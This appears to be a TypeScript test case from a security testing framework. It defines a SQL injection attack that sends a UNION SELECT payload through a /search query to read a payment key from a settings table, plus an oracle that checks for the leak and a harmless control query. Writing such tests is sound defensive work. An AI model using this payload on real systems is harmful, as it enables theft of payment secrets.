import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** Reads the payment key through UNION in the search. */
export const sqlUnionSearch: Attack = defineAttack({
  id: 'sql-union-search',
  class: 'sql-injection',
  title: 'Reads the payment key through UNION in the search',
  cwe: 89,
  capec: 66,
  technique: 'T1190',
  preconditions: [],

  steps: ({ visitor }) =>
    visitor.get(`/search${query({ q: "zz' UNION SELECT 0,value,key,0,'' FROM settings--" })}`),
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.paymentKey),
  twin: ({ visitor }) => visitor.get(`/search${query({ q: 'select tents from the student union' })}`),
})
